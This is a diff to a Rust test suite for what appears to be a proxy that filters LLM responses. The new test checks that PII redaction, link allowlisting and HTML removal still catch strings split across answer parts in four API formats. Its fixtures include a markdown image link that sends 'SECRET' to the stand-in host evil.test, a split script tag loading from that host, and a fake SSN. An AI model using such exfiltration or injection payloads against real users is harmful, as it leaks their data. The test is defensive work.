@@ -123,6 +123,51 @@ fn what_was_not_read_is_a_guard_that_failed() {
     }
 }
 
+/// The parts of a whole answer are one text, with what stands between them and without it.
+#[test]
+fn what_is_cut_over_parts_of_an_answer_is_found() {
+    let redact = json!([{ "pii": { "replacement": "#" } }]);
+    let shown = json!([{ "content": { "links": { "allow": ["example.com"], "action": "remove" }, "html": { "action": "remove" } } }]);
+    let gemini =
+        ("/v1beta/models/m:generateContent", r#"{"contents":[{"role":"user","parts":[{"text":"hi"}]}]}"#);
+    let messages =
+        ("/v1/messages", r#"{"model":"m","max_tokens":9,"messages":[{"role":"user","content":"hi"}]}"#);
+    let converse = ("/model/m/converse", r#"{"messages":[{"role":"user","content":[{"text":"hi"}]}]}"#);
+    let responses = ("/v1/responses", r#"{"model":"m","input":"hi"}"#);
+    let thought = |[one, other]: [&str; 2]| {
+        let parts = json!([{ "text": one }, { "text": "hm", "thought": true }, { "text": other }]);
+        json!({ "candidates": [{ "content": { "role": "model", "parts": parts } }] })
+    };
+    let blocks = |[one, other]: [&str; 2]| {
+        json!({ "type": "message", "role": "assistant", "content": [
+            { "type": "text", "text": one }, { "type": "text", "text": other }] })
+    };
+    let cited = |[one, other]: [&str; 2]| {
+        let block =
+            |text: &str| json!({ "citationsContent": { "content": [{ "text": text }], "citations": [] } });
+        json!({ "output": { "message": { "role": "assistant", "content": [{ "text": "So: " }, block(one), block(other)] } } })
+    };
+    let items = |[one, other]: [&str; 2]| {
+        let message = |text: &str| json!({ "type": "message", "role": "assistant", "content": [{ "type": "output_text", "text": text }] });
+        let thoughts =
+            json!({ "type": "reasoning", "content": [{ "type": "reasoning_text", "text": "hm" }] });
+        json!({ "id": "resp_1", "model": "m", "output": [message(one), thoughts, message(other)] })
+    };
+    type Answer<'a> = &'a dyn Fn([&str; 2]) -> Value;
+    let rows: [(_, Answer<'_>); 4] =
+        [(gemini, &thought), (messages, &blocks), (converse, &cited), (responses, &items)];
+    for (exchange, answer) in rows {
+        for (rules, texts, gone) in [
+            (&redact, ["ssn 536-9", "0-4399 ok"], ["536-9", "0-4399"]),
+            (&shown, ["see ![x](https://q", ".evil.test/?q=SECRET) ok"], ["https://q", "evil.test"]),
+            (&shown, ["see <scr", "ipt src=//evil.test>1</script> ok"], ["<scr", "evil.test"]),
+        ] {
+            let got = through(rules, exchange, "application/json", &answer(texts).to_string()).unwrap();
+            assert!(gone.iter().all(|part| !got.contains(part)) && got.contains(" ok"), "{got}");
+        }
+    }
+}
+
 /// A file of no known protocol is read where its bytes are a text.
 #[test]
 fn files_may_be_texts() {
